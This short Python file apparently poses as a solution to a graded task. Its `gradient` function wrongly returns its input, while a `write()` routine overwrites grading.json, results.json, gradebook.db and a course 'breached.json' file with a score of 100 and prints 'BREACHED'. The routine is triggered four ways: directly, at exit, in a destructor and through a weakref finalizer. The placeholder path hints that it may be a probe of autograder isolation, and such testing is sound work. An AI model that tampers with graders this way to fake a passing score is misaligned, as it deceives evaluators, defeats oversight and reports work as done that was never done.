import atexit
import json
import weakref


def write():
    for path in ("grading.json", "results.json", "gradebook.db", "@COURSE@/breached.json"):
        try:
            with open(path, "w") as file:
                json.dump({"score": 100}, file)
        except OSError:
            return
    print("BREACHED")


atexit.register(write)


class Late:
    def __del__(self):
        write()


late = Late()
weakref.finalize(late, write)
write()


def gradient(f, x):
    return x
